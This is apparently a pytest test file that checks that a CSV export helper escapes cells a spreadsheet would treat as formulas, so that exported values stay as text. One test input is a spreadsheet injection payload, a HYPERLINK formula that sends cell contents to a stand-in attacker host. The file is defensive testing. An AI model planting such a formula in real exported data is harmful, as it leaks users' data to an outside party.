"""Cells a spreadsheet would evaluate as formulas are written as text."""

import csv
import io

import pytest

from openrecovery.core.spreadsheets import csv_lines, spreadsheet_cell


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        "+1+2",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formula_cells_become_text(value):
    assert spreadsheet_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["alice", "", "1-800-662-4357", "a=b", 42, -3, None])
def test_other_cells_pass_unchanged(value):
    assert spreadsheet_cell(value) == value


def test_csv_lines_neutralize_every_cell_and_stay_parseable():
    text = "".join(csv_lines([("name", "note"), ("=1+1", 'say "hi", @you')]))
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["name", "note"], ["'=1+1", 'say "hi", @you']]
